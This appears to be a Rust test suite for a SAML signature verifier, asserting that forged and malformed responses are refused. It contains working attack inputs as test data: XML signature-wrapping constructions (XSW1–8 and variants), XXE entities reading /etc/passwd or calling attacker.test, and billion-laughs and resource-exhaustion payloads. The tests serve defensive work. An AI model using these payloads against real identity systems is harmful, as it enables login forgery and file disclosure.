//! The attacks of the field on the document and its signatures: wrapping, forging, parser tricks.

use super::{
    EVIL, P256, RSA, ada, all_refused, forged,
    idp::{self, EXC_C14N, Hash, Signer, form_value, with_signature},
    judged, now, pending, replaced, signer, terms, trust, verify_form,
};
use crate::saml::trust::Trust;

/// The genuine Assertion with its Signature, and without.
fn genuine() -> (String, String, String) {
    let plain = ada().assertion();
    let signature = signer().signature("_assertion", &plain);
    (with_signature(&plain, &signature), plain, signature)
}

/// `extensions` in their place before the Status.
fn extended(response: &str, inside: &str) -> String {
    replaced(
        response,
        "<samlp:Status>",
        &format!("<samlp:Extensions>{inside}</samlp:Extensions><samlp:Status>"),
    )
}

#[test]
fn signature_wrapping() {
    let (signed, plain, signature) = genuine();
    let evil = forged().assertion();
    let original = ada().response(&plain);
    let over_response = signer().signature("_response", &original);
    let around = |inside: &str| {
        format!("{}{inside}</ds:Signature>", over_response.strip_suffix("</ds:Signature>").unwrap())
    };
    let into = |signature: &str, inside: &str| {
        replaced(signature, "</ds:Signature>", &format!("{inside}</ds:Signature>"))
    };
    let forged_root = forged().response(&evil);
    let nested = replaced(&evil, "</saml:Assertion>", &format!("{signed}</saml:Assertion>"));
    let one = "one_assertion";
    all_refused(&[
        ("XSW1", with_signature(&forged_root, &around(&original)), one),
        ("XSW2", with_signature(&forged_root, &format!("{original}{over_response}")), one),
        ("XSW3", ada().response(&format!("{evil}{signed}")), one),
        ("XSW4", ada().response(&nested), one),
        ("XSW5", ada().response(&format!("{}{plain}", with_signature(&evil, &signature))), one),
        ("XSW6", ada().response(&with_signature(&evil, &into(&signature, &plain))), one),
        ("XSW7", extended(&ada().response(&signed), &evil), one),
        ("XSW8", ada().response(&with_signature(&evil, &into(&signature, &format!("<ds:Object>{plain}</ds:Object>")))), one),
        ("after", ada().response(&format!("{signed}{evil}")), one),
        ("in Advice", ada().response(&replaced(&evil, "<saml:AuthnStatement", &format!("<saml:Advice>{signed}</saml:Advice><saml:AuthnStatement"))), one),
        ("in StatusDetail", replaced(&forged_root, "</samlp:Status>", &format!("<samlp:StatusDetail>{signed}</samlp:StatusDetail></samlp:Status>")), one),
        ("in AttributeValue", ada().response(&replaced(&evil, "<saml:AttributeValue>", &format!("<saml:AttributeValue>{signed}"))), one),
        ("in an unknown wrapper", ada().response(&format!("<x>{signed}</x>{evil}")), one),
        ("alone in Extensions", extended(&ada().response(""), &signed), one),
        ("whole response inside", forged().response(&format!("{}{evil}", signer().signed("_response", &original))), one),
        ("whole response in Extensions", extended(&forged_root, &signer().signed("_response", &original)), one),
        ("two signed", ada().response(&format!("{signed}{}", signer().signed("_evil", &evil))), one),
        ("plain beside encrypted", ada().response(&format!("{evil}<saml:EncryptedAssertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"></saml:EncryptedAssertion>")), one),
        ("none", ada().response(""), one),
    ]);
}

#[test]
fn signatures_in_the_wrong_place() {
    let (signed, plain, signature) = genuine();
    let evil = forged().assertion();
    let logout = r#"<samlp:LogoutResponse xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_logout"></samlp:LogoutResponse>"#;
    let logout_signed =
        replaced(logout, "></", &format!(">{}</", signer().signature("_logout", logout)));
    let double = with_signature(&with_signature(&plain, &signature), &signature);
    let thousand = format!("<ds:Object xmlns:ds=\"d\">{}</ds:Object>", signature.repeat(150));
    let misplaced = "signature_misplaced";
    all_refused(&[
        ("moved", with_signature(&ada().response(&plain), &signature), misplaced),
        (
            "the Response's, moved",
            ada().response(&with_signature(
                &plain,
                &signer().signature("_response", &ada().response(&plain)),
            )),
            misplaced,
        ),
        ("two in one", ada().response(&double), misplaced),
        (
            "of a LogoutResponse, around it",
            extended(&forged().response(&evil), &logout_signed),
            misplaced,
        ),
        (
            "of a LogoutResponse, alone",
            with_signature(&forged().response(&evil), &signer().signature("_logout", logout)),
            misplaced,
        ),
        (
            "in the Subject",
            ada().response(&replaced(
                &plain,
                "</saml:Subject>",
                &format!("{signature}</saml:Subject>"),
            )),
            misplaced,
        ),
        ("many", extended(&ada().response(&signed), &thousand), misplaced),
    ]);
}

#[test]
fn shapes_of_the_document() {
    let (signed, plain, _) = genuine();
    let response = ada().response(&signed);
    let alike = replaced(&forged().assertion(), "SAML:2.0:assertion", "SAML:2.0:assertion#");
    let element = "unexpected_element";
    let bad_id = "bad_id";
    all_refused(&[
        ("look-alike beside", ada().response(&format!("{signed}{alike}")), element),
        ("look-alike alone", ada().response(&alike), element),
        ("two Status", replaced(&response, "<samlp:Status>", "<samlp:Status></samlp:Status><samlp:Status>"), element),
        ("bare Assertion", signed.clone(), "not_a_response"),
        ("SOAP", format!("<e:Envelope xmlns:e=\"http://schemas.xmlsoap.org/soap/envelope/\"><e:Body>{response}</e:Body></e:Envelope>"), "not_a_response"),
        ("LogoutResponse", response.replace("samlp:Response", "samlp:LogoutResponse"), "not_a_response"),
        ("a Response of nobody", "<Response/>".to_owned(), "not_a_response"),
        ("the ID again", extended(&response, "<x ID=\"_assertion\"/>"), "duplicate_id"),
        ("the ID again as Id", extended(&response, "<x Id=\"_assertion\"/>"), "duplicate_id"),
        ("the ID again as id", extended(&response, "<x id=\"_assertion\"/>"), "duplicate_id"),
        ("the ID again as xml:id", extended(&response, "<x xml:id=\"_assertion\"/>"), "duplicate_id"),
        ("the ID again as AssertionID", extended(&response, "<x AssertionID=\"_assertion\"/>"), "duplicate_id"),
        ("a prefixed ID", extended(&response, "<x xmlns:y=\"y\" y:ID=\"_z\"/>"), bad_id),
        ("an ID with a space", extended(&response, "<x ID=\"a b\"/>"), bad_id),
        ("an ID that starts with a digit", extended(&response, "<x ID=\"1a\"/>"), bad_id),
        ("a long ID", extended(&response, &format!("<x ID=\"{}\"/>", "a".repeat(257))), bad_id),
        ("no ID", ada().response(&replaced(&plain, " ID=\"_assertion\"", "")), bad_id),
        ("unsigned", ada().response(&plain), "unsigned"),
        ("encrypted", ada().response("<saml:EncryptedAssertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"></saml:EncryptedAssertion>"), "decryption_failed"),
    ]);
}

#[test]
fn shapes_of_a_signature() {
    let (signed, plain, signature) = genuine();
    let response = ada().response(&signed);
    let with = |signature: &str| ada().response(&with_signature(&plain, signature));
    let info = |text: &str| {
        let from = text.find("<ds:SignedInfo>").unwrap();
        let to = text.find("</ds:SignedInfo>").unwrap() + "</ds:SignedInfo>".len();
        text[from..to].to_owned()
    };
    let reference = {
        let from = signature.find("<ds:Reference").unwrap();
        let to = signature.find("</ds:Reference>").unwrap() + "</ds:Reference>".len();
        signature[from..to].to_owned()
    };
    let shape = "signature_shape";
    all_refused(&[
        (
            "an empty Signature",
            with("<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"/>"),
            shape,
        ),
        (
            "two SignedInfo",
            replaced(
                &response,
                "<ds:SignatureValue>",
                &format!("{}<ds:SignatureValue>", info(&signature)),
            ),
            shape,
        ),
        ("no SignedInfo", replaced(&response, &info(&signature), ""), shape),
        ("an empty SignedInfo", replaced(&response, &info(&signature), "<ds:SignedInfo/>"), shape),
        ("no Reference", replaced(&response, &reference, ""), shape),
        ("two References", replaced(&response, &reference, &reference.repeat(2)), shape),
        (
            "an empty SignatureValue",
            cut(&response, "<ds:SignatureValue>", "</ds:SignatureValue>"),
            shape,
        ),
        (
            "a comment in DigestValue",
            replaced(&response, "<ds:DigestValue>", "<ds:DigestValue><!-- x -->"),
            shape,
        ),
        (
            "a comment that splits SignatureValue",
            replaced(&response, "<ds:SignatureValue>", "<ds:SignatureValue>AAAA<!-- x -->"),
            shape,
        ),
        (
            "two DigestValue",
            replaced(
                &response,
                "<ds:DigestValue>",
                "<ds:DigestValue>AAAA</ds:DigestValue><ds:DigestValue>",
            ),
            shape,
        ),
        (
            "an element in DigestValue",
            replaced(&response, "<ds:DigestValue>", "<ds:DigestValue><x/>"),
            shape,
        ),
        ("an Object", replaced(&response, "</ds:Signature>", "<ds:Object/></ds:Signature>"), shape),
        (
            "a prefixed URI",
            replaced(&response, "<ds:Reference ", "<ds:Reference ds:URI=\"#_response\" "),
            shape,
        ),
        (
            "parameters",
            replaced(
                &response,
                "</ds:SignatureMethod>",
                "<ds:HMACOutputLength>8</ds:HMACOutputLength></ds:SignatureMethod>",
            ),
            shape,
        ),
    ]);
}

/// `text` without what stands between the first `open` and the next `close`.
fn cut(text: &str, open: &str, close: &str) -> String {
    let from = text.find(open).unwrap() + open.len();
    let to = from + text[from..].find(close).unwrap();
    format!("{}{}", &text[..from], &text[to..])
}

#[test]
fn references_and_transforms() {
    let plain = ada().assertion();
    let with = |signer: Signer<'_>| ada().response(&signer.signed("_assertion", &plain));
    let to = |uri: &'static str| with(Signer { uri: Some(uri), ..signer() });
    let through = |transforms: &str| with(Signer { transforms: Some(transforms), ..signer() });
    let transform = |uri: &str| format!("<ds:Transform Algorithm=\"{uri}\"></ds:Transform>");
    let enveloped = transform("http://www.w3.org/2000/09/xmldsig#enveloped-signature");
    let exclusive = transform(EXC_C14N);
    let listed = |more: &str| through(&format!("{enveloped}{}", transform(more)));
    let prefixes = |list: &str| {
        format!(
            r#"<ds:Transform Algorithm="{EXC_C14N}"><ec:InclusiveNamespaces xmlns:ec="{EXC_C14N}" PrefixList="{list}"></ec:InclusiveNamespaces></ds:Transform>"#
        )
    };
    let reference = "reference_not_parent";
    let no = "transform_not_allowed";
    let conditions = plain.replace("<saml:Conditions ", "<saml:Conditions ID=\"_c\" ");
    let with_c14n = |uri: &str| {
        replaced(
            &with(signer()),
            &format!("<ds:CanonicalizationMethod Algorithm=\"{EXC_C14N}\">"),
            &format!("<ds:CanonicalizationMethod Algorithm=\"{uri}\">"),
        )
    };
    all_refused(&[
        (
            "only the Conditions",
            ada().response(&Signer { uri: Some("#_c"), ..signer() }.signed("_c", &conditions)),
            reference,
        ),
        ("the whole document", to(""), reference),
        ("an XPointer to all", to("#xpointer(/)"), reference),
        ("an XPointer to the ID", to("#xpointer(id('_assertion'))"), reference),
        ("a file", to("file:///etc/passwd"), reference),
        ("a relative file", to("Cargo.toml"), reference),
        ("http", to("http://attacker.test/"), reference),
        ("cid", to("cid:x"), reference),
        (
            "no URI",
            replaced(&with(signer()), "<ds:Reference URI=\"#_assertion\">", "<ds:Reference>"),
            reference,
        ),
        ("XPath", listed("http://www.w3.org/TR/1999/REC-xpath-19991116"), no),
        ("XSLT", listed("http://www.w3.org/TR/1999/REC-xslt-19991116"), no),
        ("base64", listed("http://www.w3.org/2000/09/xmldsig#base64"), no),
        ("inclusive", listed("http://www.w3.org/TR/2001/REC-xml-c14n-20010315"), no),
        ("with comments", listed("http://www.w3.org/2001/10/xml-exc-c14n#WithComments"), no),
        ("the other way round", through(&format!("{exclusive}{enveloped}")), no),
        ("only one", through(&enveloped), no),
        ("none", through(""), no),
        ("2,000", through(&exclusive.repeat(2_000)), no),
        (
            "no Transforms",
            replaced(
                &replaced(
                    &cut(&with(signer()), "<ds:Transforms>", "</ds:Transforms>"),
                    "<ds:Transforms>",
                    "",
                ),
                "</ds:Transforms>",
                "",
            ),
            no,
        ),
        ("many prefixes", through(&format!("{enveloped}{}", prefixes(&"q ".repeat(17)))), no),
        ("long prefixes", through(&format!("{enveloped}{}", prefixes(&"q".repeat(1025)))), no),
        (
            "SignedInfo with comments",
            with_c14n("http://www.w3.org/2001/10/xml-exc-c14n#WithComments"),
            no,
        ),
        ("SignedInfo in 1.1", with_c14n("http://www.w3.org/2006/12/xml-c14n11"), no),
    ]);
}

#[test]
fn algorithms_and_keys() {
    let (signed, ..) = genuine();
    let plain = ada().assertion();
    let with = |signer: Signer<'_>| ada().response(&signer.signed("_assertion", &plain));
    let method = |method: &'static str| with(Signer { method: Some(method), ..signer() });
    let certificate = |key: &idp::Key| {
        format!(
            "<ds:X509Data><ds:X509Certificate>{}</ds:X509Certificate></ds:X509Data>",
            key.certificate_base64()
        )
    };
    let (own, both) = (certificate(&EVIL), format!("{}{}", certificate(&RSA), certificate(&EVIL)));
    let invented = Signer { key_info: Some(&own), ..Signer::new(&EVIL) };
    let appended = Signer { key_info: Some(&both), ..Signer::new(&EVIL) };
    let (algorithm, invalid) = ("algorithm_not_allowed", "signature_invalid");
    let value = "<saml:AttributeValue>ada@acme.test";
    all_refused(&[
        ("HMAC", method("http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"), algorithm),
        ("HMAC-SHA1", method("http://www.w3.org/2000/09/xmldsig#hmac-sha1"), algorithm),
        ("DSA", method("http://www.w3.org/2009/xmldsig11#dsa-sha256"), algorithm),
        ("RSA-MD5", method("http://www.w3.org/2001/04/xmldsig-more#rsa-md5"), algorithm),
        ("RSA-SHA1", with(Signer { hash: Hash::Sha1, ..signer() }), algorithm),
        ("a digest of SHA-1", with(Signer { digest: Hash::Sha1, ..signer() }), algorithm),
        ("ECDSA-SHA1", with(Signer { hash: Hash::Sha1, ..Signer::new(&P256) }), algorithm),
        (
            "no algorithm",
            replaced(
                &with(signer()),
                "<ds:SignatureMethod Algorithm=\"http://www.w3.org/2001/04/xmldsig-more#rsa-sha256\">",
                "<ds:SignatureMethod>",
            ),
            algorithm,
        ),
        (
            "ECDSA's name on RSA",
            method("http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"),
            invalid,
        ),
        (
            "another hash's name",
            method("http://www.w3.org/2001/04/xmldsig-more#rsa-sha512"),
            invalid,
        ),
        ("the attacker's key", with(Signer::new(&EVIL)), invalid),
        ("the attacker's certificate", with(invented), invalid),
        ("the attacker's certificate behind ours", with(appended), invalid),
        (
            "NameID changed",
            replaced(&ada().response(&signed), ">ada@acme.test", ">evil@acme.test"),
            invalid,
        ),
        (
            "attribute changed",
            replaced(&ada().response(&signed), value, "<saml:AttributeValue>evil@acme.test"),
            invalid,
        ),
        (
            "SignatureValue changed",
            replaced(&ada().response(&signed), "<ds:SignatureValue>", "<ds:SignatureValue>AAAA"),
            invalid,
        ),
        (
            "SignatureValue no base64",
            replaced(&ada().response(&signed), "<ds:SignatureValue>", "<ds:SignatureValue>!"),
            invalid,
        ),
        (
            "only the Response's verifies",
            signer().signed(
                "_response",
                &ada().response(&Signer::new(&EVIL).signed("_assertion", &plain)),
            ),
            invalid,
        ),
        (
            "only the Assertion's verifies",
            Signer::new(&EVIL).signed("_response", &ada().response(&signed)),
            invalid,
        ),
        (
            "void canonicalization",
            ada().response(&with_signature(
                &replaced(&plain, " ID=", " xmlns:x=\"relative\" x:y=\"\" ID="),
                &signer().signature("_assertion", ""),
            )),
            invalid,
        ),
        (
            "DOM hash of a Response around another name",
            replaced(&ada().response_signed(&signer()), ">ada@acme.test", ">evil@acme.test"),
            invalid,
        ),
    ]);
    assert_eq!(Trust::new(terms(&[])).unwrap_err().code, "no_certificate");
    let other = trust(&[&EVIL]);
    let no = judged(&form_value(&ada().response(&signed)), &other, &pending(), now());
    assert_eq!(no.unwrap_err().code, "signature_invalid");
}

#[test]
fn parser_tricks() {
    let (signed, ..) = genuine();
    let response = ada().response(&signed);
    let wide = |what: &str, count: usize| -> String {
        (0..count).map(|nth| what.replace('#', &nth.to_string())).collect()
    };
    let deep = "<a>".repeat(30_000);
    let level = format!("<a{}>", wide(" xmlns:a#=\"a\"", 30));
    let nested = format!("{}{}", level.repeat(5), "</a>".repeat(5));
    let (dtd, bad) = ("dtd_forbidden", "bad_xml");
    all_refused(&[
        ("DOCTYPE", format!("<!DOCTYPE x>{response}"), dtd),
        (
            "external entity",
            format!("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>{response}"),
            dtd,
        ),
        (
            "parameter entity",
            format!("<!DOCTYPE x [<!ENTITY % e SYSTEM \"http://attacker.test/\">%e;]>{response}"),
            dtd,
        ),
        (
            "external subset",
            format!("<!DOCTYPE x SYSTEM \"http://attacker.test/x.dtd\">{response}"),
            dtd,
        ),
        (
            "default attributes",
            format!("<!DOCTYPE x [<!ATTLIST x ID CDATA \"_assertion\">]>{response}"),
            dtd,
        ),
        (
            "billion laughs",
            format!("<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]>{response}"),
            dtd,
        ),
        (
            "DOCTYPE inside",
            replaced(&response, "<samlp:Status>", "<!DOCTYPE x><samlp:Status>"),
            dtd,
        ),
        ("PI in NameID", replaced(&response, ">ada@", ">ada<?x y?>@"), "processing_instruction"),
        ("an entity that nobody declared", replaced(&response, ">ada@", ">&e;@"), bad),
        ("not XML", "hello".to_owned(), bad),
        ("nothing", String::new(), bad),
        ("cut", response[..response.len() - 30].to_owned(), bad),
        ("a second root", format!("{response}<x/>"), bad),
        (
            "a duplicate attribute",
            replaced(&response, " Version=", " Version=\"2.0\" Version="),
            bad,
        ),
        (
            "an undeclared prefix",
            replaced(&response, "<samlp:Status>", "<y:x/><samlp:Status>"),
            bad,
        ),
        ("another version of XML", format!("<?xml version=\"1.1\"?>{response}"), bad),
        ("NUL", replaced(&response, ">ada@", ">ada\0@"), bad),
        (
            "another encoding",
            format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{response}"),
            "not_utf8",
        ),
        ("deep", extended(&response, &deep), "too_complex"),
        (
            "49 levels",
            extended(&response, &format!("{}{}", "<a>".repeat(47), "</a>".repeat(47))),
            "too_complex",
        ),
        (
            "10,000 attributes",
            extended(&response, &format!("<a{}/>", wide(" a#=\"\"", 10_000))),
            "too_complex",
        ),
        (
            "5,000 namespaces",
            extended(&response, &format!("<a{}/>", wide(" xmlns:a#=\"a\"", 5_000))),
            "too_complex",
        ),
        (
            "5,000 namespaces with spaces",
            extended(&response, &format!("<a{}/>", wide(" xmlns:a# = \"a\"", 5_000))),
            "too_complex",
        ),
        (
            "spaced namespaces on every level",
            extended(&response, &nested.replace('=', " =\n")),
            "too_complex",
        ),
        (
            "a long namespace",
            extended(&response, &format!("<a xmlns:b = '{}'/>", "b".repeat(257))),
            "too_complex",
        ),
        ("namespaces on every level", extended(&response, &nested), "too_complex"),
        ("many elements", extended(&response, &"<a/>".repeat(20_000)), "too_complex"),
        ("huge", extended(&response, &"a".repeat(256 * 1024)), "too_large"),
    ]);
    let code = |bytes: &[u8]| {
        use base64::{Engine, engine::general_purpose::STANDARD};
        verify_form(&STANDARD.encode(bytes)).unwrap_err().code
    };
    assert_eq!(verify_form("no base64!").unwrap_err().code, "not_base64");
    assert_eq!(verify_form(&form_value(&response)[1..]).unwrap_err().code, "not_base64");
    assert_eq!(verify_form(&"A".repeat(20 * 1024 * 1024)).unwrap_err().code, "too_large");
    assert_eq!(code(b"<a>\xc0\xbc</a>"), "not_utf8");
    let utf16: Vec<u8> = response.encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert!(matches!(code(&utf16), "bad_xml" | "not_utf8"));
}
